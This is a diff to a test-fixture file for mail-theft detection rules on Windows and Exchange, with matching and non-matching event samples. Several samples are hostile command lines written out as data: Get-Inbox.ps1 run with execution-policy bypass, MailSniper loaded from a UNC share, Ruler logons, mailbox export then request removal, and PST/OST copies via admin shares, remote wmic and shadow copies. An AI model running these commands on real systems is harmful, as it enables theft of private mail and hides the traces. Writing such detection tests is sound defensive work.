@@ -219,8 +219,10 @@ R = "win_exchange_management_export_role_or_cleanup"
 FIXTURES[R] = [
     pos(R, "role_granted_single_quotes", "The Mailbox Import Export role granted to a compromised account.",
         msx("New-ManagementRoleAssignment", "-Role \"Mailbox Import Export\" -User \"contoso.local/Users/svc-backup\"")),
-    pos(R, "export_request_removed", "Remove-MailboxExportRequest cleans up after the export.",
-        msx("Remove-MailboxExportRequest", "-Identity \"ceo\\MailboxExport\" -Confirm \"False\"")),
+    case("export_request_removed", "Remove-MailboxExportRequest cleans up after an export: routine on its own, a hunting signal "
+         "(win_exchange_management_export_request_removed), not the role grant.",
+         [msx("Remove-MailboxExportRequest", "-Identity \"ceo\\MailboxExport\" -Confirm \"False\"")],
+         match=["win_exchange_management_export_request_removed"], no_match=[R]),
     neg(R, "other_role_granted", "Another management role granted.",
         msx("New-ManagementRoleAssignment", "-Role \"Mail Recipients\" -SecurityGroup \"Helpdesk\"")),
     neg(R, "import_request_removed", "Completed import requests removed.",
@@ -381,4 +383,101 @@ FIXTURES[R] = [
          "finds them only when they share one of its windows (30 minutes long, one starting every 7.5 minutes), so this case "
          "is reported unverified there.",
          [COPY, dict(SMTP, at=1500)], match=[R]),
+]
+
+
+# --- Cases added for the procedure catalogue (docs/procedures.md) --------------------------
+# New rules go on at the end of FIXTURES; new cases of older rules go into VARIANTS, which
+# the generator numbers after everything else so the older files keep their record numbers.
+VARIANTS = {}
+
+ATOMIC_GET_INBOX = ("powershell -executionpolicy bypass -command \"C:\\AtomicRedTeam\\atomics\\T1114.001\\src\\Get-Inbox.ps1\" "
+                    "-file C:\\Users\\bob\\AppData\\Local\\Temp\\mail.csv")
+R = "win_mail_collection_script_run"
+FIXTURES[R] = [
+    pos(R, "atomic_t1114_001_get_inbox", "Atomic Red Team T1114.001 #1 as its executor runs it: PowerShell started by PowerShell "
+        "with the quoted path of Get-Inbox.ps1 and a CSV to write.", ps(ATOMIC_GET_INBOX, parent=PS)),
+    pos(R, "legacy_atomic_unquoted_lower_case", "The older T1114 test: unquoted path, script name in lower case, seen as Security 4688.",
+        proc(PS, "powershell -ExecutionPolicy Bypass -Command c:\\atomicredteam\\atomics\\T1114\\src\\get-inbox.ps1 -file %TEMP%\\mail.csv", via="security")),
+    pos(R, "renamed_pwsh_unc_mailsniper", "MailSniper.ps1 dot-sourced from a UNC share by PowerShell 7 renamed to svc.exe (Elastic: Defend).",
+        proc("C:\\ProgramData\\svc.exe", "svc.exe -nop -c \". '\\\\10.9.8.7\\tools$\\MailSniper.ps1'; Invoke-SelfSearch -Mailbox bob@contoso.com\"", "pwsh.dll", via="defend")),
+    pos(R, "relative_path_file_switch", "Get-Inbox.ps1 run by relative path with -File from the user's Downloads.",
+        ps("powershell.exe -ep bypass -File .\\Get-Inbox.ps1 -file out.csv")),
+    neg(R, "admin_inbox_rule_report_script", "An administrator's Get-InboxRule.ps1 report: the name only starts like Get-Inbox.",
+        ps("powershell.exe -File C:\\Scripts\\Get-InboxRule.ps1 -Mailbox bob", host=EXCH)),
+    neg(R, "inbox_statistics_script", "Get-InboxStatistics.ps1, a mailbox size report.",
+        ps("powershell.exe -NoProfile -File \\\\fs01\\scripts$\\Get-InboxStatistics.ps1")),
+    neg(R, "editor_opens_get_inbox", "Notepad opening Get-Inbox.ps1 (reviewing it) runs nothing.",
+        proc("C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\AtomicRedTeam\\atomics\\T1114.001\\src\\Get-Inbox.ps1", "NOTEPAD.EXE")),
+]
+
+R = "win_security_mail_store_share_access"
+OST_REL = "Users\\alice\\AppData\\Local\\Microsoft\\Outlook\\alice@contoso.com.ost"
+FIXTURES[R] = [
+    pos(R, "ost_over_c_dollar", "Another host reads alice's OST through \\\\FS01\\C$ (the Chimera procedure).",
+        {"kind": "share_access", "share": "\\\\*\\C$", "target": OST_REL}),
+    pos(R, "pst_over_d_dollar_upper_case", "An archive PST on D: read through D$, extension in upper case (forwarded Security event on Elastic).",
+        {"kind": "share_access", "share": "\\\\*\\D$", "target": "Archive\\Finance\\CFO-2025.PST", "local": "\\??\\D:\\", "dataset": "windows.forwarded"}),
+    pos(R, "nst_over_admin_share_lower_case", "A group-conversation NST read through c$ written in lower case.",
+        {"kind": "share_access", "share": "\\\\*\\c$", "target": "Users\\bob\\AppData\\Local\\Microsoft\\Outlook\\bob.nst"}),
+    neg(R, "own_pst_on_home_share", "A user's Outlook opens the PST kept on the home share: an ordinary share, the owner's file.",
+        {"kind": "share_access", "share": "\\\\*\\Home", "target": "bob\\Outlook\\archive.pst", "local": "\\??\\E:\\Home\\"}),
+    neg(R, "sccm_reads_admin_share", "Configuration Manager reading its client log through ADMIN$.",
+        {"kind": "share_access", "share": "\\\\*\\ADMIN$", "target": "CCM\\Logs\\ccmexec.log", "local": "\\??\\C:\\Windows\\", "user": "CONTOSO\\svc-sccm"}),
+    neg(R, "pst_named_log_over_c_dollar", "A migration tool's log whose name contains .pst but does not end in it.",
+        {"kind": "share_access", "share": "\\\\*\\C$", "target": "ProgramData\\Migrate\\alice.pst.log"}),
+]
+
+R = "win_security_ruler_workstation_logon"
+FIXTURES[R] = [
+    pos(R, "ruler_ntlm_logon_to_exchange", "Ruler authenticates to Exchange over NTLM: network logon with workstation RULER.",
+        {"kind": "logon", "workstation": "RULER", "host": EXCH}),
+    pos(R, "ruler_failed_spray_logon", "A failed logon from Ruler's brute-force mode (4625).",
+        {"kind": "logon", "workstation": "RULER", "failed": True, "user": "CONTOSO\\j.doe", "host": EXCH}),
+    neg(R, "ordinary_workstation_logon", "A user's workstation logs on to the Exchange server.",
+        {"kind": "logon", "workstation": "WS01", "ip": "10.1.2.3", "host": EXCH}),
+    neg(R, "workstation_name_contains_ruler", "A host whose name merely contains RULER.",
+        {"kind": "logon", "workstation": "RULER-LAB01", "ip": "10.1.7.9", "host": EXCH}),
+]
+
+R = "win_exchange_management_export_request_removed"
+FIXTURES[R] = [
+    pos(R, "completed_request_removed", "Remove-MailboxExportRequest run by the Exchange administrator.",
+        msx("Remove-MailboxExportRequest", "-Identity \"cfo\\MailboxExport1\" -Confirm:$false")),
+    neg(R, "export_request_listed", "Get-MailboxExportRequest lists the requests; nothing removed.",
+        msx("Get-MailboxExportRequest", "-Status \"Completed\"")),
+    neg(R, "import_request_removed_2", "A completed import request removed.",
+        msx("Remove-MailboxImportRequest", "-Identity \"j.doe\\MailboxImport1\"")),
+]
+
+R = "win_exchange_export_then_removed"
+EXPORT = msx("New-MailboxExportRequest", "-Mailbox \"ceo\" -FilePath \"\\\\EXCH01\\c$\\Windows\\Temp\\ceo.pst\"", caller="contoso.local/Users/svc-backup")
+REMOVE = msx("Remove-MailboxExportRequest", "-Identity \"ceo\\MailboxExport\" -Confirm \"False\"", caller="contoso.local/Users/svc-backup")
+BOTH = [R, "win_exchange_management_mailbox_export", "win_exchange_management_export_request_removed"]
+FIXTURES[R] = [
+    case("export_then_removed_20_minutes_later", "svc-backup exports the CEO mailbox and removes the request 20 minutes later.",
+         [EXPORT, dict(REMOVE, at=1200)], match=BOTH),
+    case("export_then_removed_by_another_admin", "One administrator exports and another removes the request through the same server: "
+         "still the sequence (the grouping is by server).", [EXPORT, dict(REMOVE, at=1200, caller="contoso.local/Users/exadmin")], match=BOTH),
+    case("export_and_removal_on_different_servers", "The export is logged on EXCH01, an unrelated removal on EXCH02.",
+         [EXPORT, dict(REMOVE, at=1200, host="EXCH02.contoso.local")], match=BOTH[1:], no_match=[R]),
+    case("removed_before_export", "A removal of an older request, then a new export: the wrong order.",
+         [REMOVE, dict(EXPORT, at=600)], match=BOTH[1:], no_match=[R]),
+    case("removed_next_day", "The request removed five hours later, outside the two-hour window.",
+         [EXPORT, dict(REMOVE, at=18000)], match=BOTH[1:], no_match=[R]),
+]
+
+VARIANTS["win_mail_store_copy_or_archive"] = [
+    pos("win_mail_store_copy_or_archive", "wmic_remote_cmd_copy_pst", "Chimera: wmic /node starts cmd /c copy of a user's PST on another host.",
+        proc("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic /node:10.1.2.40 process call create \"cmd /c copy c:\\Users\\alice\\Documents\\backup.pst c:\\windows\\temp\\backup.pst\"", "wmic.exe")),
+    pos("win_mail_store_copy_or_archive", "cmd_copy_from_admin_share_wildcard", "Chimera: cmd copies the OSTs of a remote profile through \\\\host\\c$ with a wildcard.",
+        proc(CMD, "cmd.exe /c copy \\\\WS02\\c$\\Users\\alice\\AppData\\Local\\Microsoft\\Outlook\\*.ost C:\\ProgramData\\o\\", "Cmd.Exe")),
+    pos("win_mail_store_copy_or_archive", "esentutl_from_shadow_copy", "esentutl copies an OST out of a volume shadow copy (device path).",
+        proc("C:\\Windows\\System32\\esentutl.exe", "esentutl.exe /y \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Users\\bob\\AppData\\Local\\Microsoft\\Outlook\\bob@contoso.com.ost /d C:\\Users\\Public\\b.ost", "esentutl.exe")),
+    pos("win_mail_store_copy_or_archive", "xcopy_short_8_3_path", "xcopy of a PST named by its 8.3 short path.",
+        proc("C:\\Windows\\System32\\xcopy.exe", "xcopy C:\\Users\\bob\\DOCUME~1\\OUTLOO~1\\archive.pst C:\\Users\\Public\\ /y", "XCOPY.EXE")),
+    neg("win_mail_store_copy_or_archive", "wmic_remote_dir_listing", "wmic /node starts a directory listing of PSTs: no copy.",
+        proc("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic /node:10.1.2.40 process call create \"cmd /c dir /s c:\\Users\\*.pst\"", "wmic.exe")),
+    neg("win_mail_store_copy_or_archive", "wmic_copy_of_logs", "wmic /node copies log files, no mail store.",
+        proc("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic /node:10.1.2.40 process call create \"cmd /c copy c:\\Windows\\Logs\\CBS\\CBS.log c:\\windows\\temp\\\"", "wmic.exe")),
 ]
